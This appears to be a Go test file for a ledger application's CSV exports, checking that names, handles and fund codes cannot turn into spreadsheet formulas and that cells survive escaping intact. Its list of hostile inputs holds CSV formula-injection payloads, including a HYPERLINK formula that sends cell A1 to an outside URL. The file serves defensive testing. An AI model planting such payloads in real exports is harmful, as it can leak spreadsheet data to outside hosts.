package report_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"phyle/ledger"
	"phyle/ledger/report"
)

// hostile are texts by which a spreadsheet could be made to do something, and texts
// that are hard to keep in a cell.
var hostile = []string{
	`=HYPERLINK("http://example.org/?"&A1,"see")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
	"\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=", "-",
	`say "no", Bo`, "one\r\ntwo\nthree\rfour", "a;=1+1", "a\t=1+1", "a|b", "", " ", "Ana", "'quoted'",
}

// Every text cell of an export stays text for a spreadsheet, whatever members call
// themselves, and every amount is a plain number.
func TestCase23_ExportsHoldNoFormula(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		for name, export := range exports(text) {
			var out bytes.Buffer
			if err := export(&out); err != nil {
				t.Fatal(err)
			}
			reader := csv.NewReader(&out)
			lines, err := reader.ReadAll()
			if err != nil || len(lines) != 2 {
				t.Fatalf("%s of %q: %d lines, %v", name, text, len(lines), err)
			}
			for i, cell := range lines[1] {
				if runs(cell) && !plainNumber.MatchString(cell) {
					t.Errorf("%s of %q: %s is %q", name, text, lines[0][i], cell)
				}
			}
		}
	}
}

var plainNumber = regexp.MustCompile(`^-?(0|[1-9][0-9]*)(\.[0-9]+)?$`)

// runs reports whether a spreadsheet would take the cell for a formula: it looks past
// blanks at the first character.
func runs(cell string) bool {
	cell = strings.TrimLeftFunc(cell, unicode.IsSpace)
	return cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0])
}

func exports(text string) map[string]func(out *bytes.Buffer) error {
	member := ledger.Member{Handle: text, Name: text}
	return map[string]func(out *bytes.Buffer) error{
		"payouts": func(out *bytes.Buffer) error {
			l := line(text, "-1.00", "0", "0", "0", "-1.00")
			return report.PayoutsCSV(out, october(ledger.ByMember, "-1.00", "0", l))
		},
		"trial": func(out *bytes.Buffer) error {
			return report.TrialCSV(out, commons, []ledger.AccountBalance{
				{Account: ledger.Account{Name: text}, Balance: eur("-1.00")}})
		},
		"balances": func(out *bytes.Buffer) error {
			return report.BalancesCSV(out, ledger.BalancesReport{Commons: commons, Lines: []ledger.MemberBalance{
				{Member: member, Payable: eur("-1.00"), Capital: eur("0")}}})
		},
		"funds": func(out *bytes.Buffer) error {
			return report.FundsCSV(out, ledger.FundsReport{Commons: commons, Lines: []ledger.FundLine{
				{Code: text, Name: text, Target: eur("0"), Other: eur("-1.00"), Given: eur("0"), Spent: eur("0"),
					Holds: eur("-1.00")}}})
		},
		"claims": func(out *bytes.Buffer) error {
			return report.ClaimsCSV(out, ledger.ClaimsReport{Commons: commons, Lines: []ledger.ClaimLine{
				{Kind: text, Member: text, Name: text, Promised: eur("0"), Paid: eur("1.00"),
					Outstanding: eur("-1.00")}}})
		},
	}
}

// What is in a cell comes back as it was, with nothing before it but the apostrophe,
// and lines end as RFC 4180 has them.
func TestCellsStayWhole(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		var out bytes.Buffer
		if err := exports(text)["trial"](&out); err != nil {
			t.Fatal(err)
		}
		written := out.String()
		cell := strings.TrimPrefix(strings.TrimSuffix(written, ",,-1.00,EUR\r\n"),
			"account,class,balance,currency\r\n")
		if whole, found := strings.CutPrefix(cell, `"`); found {
			cell = strings.ReplaceAll(strings.TrimSuffix(whole, `"`), `""`, `"`)
		}
		want := text
		if runs(text) {
			want = "'" + text
		}
		if diff := cmp.Diff(fmt.Sprintf("%q", want), fmt.Sprintf("%q", cell)); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
}
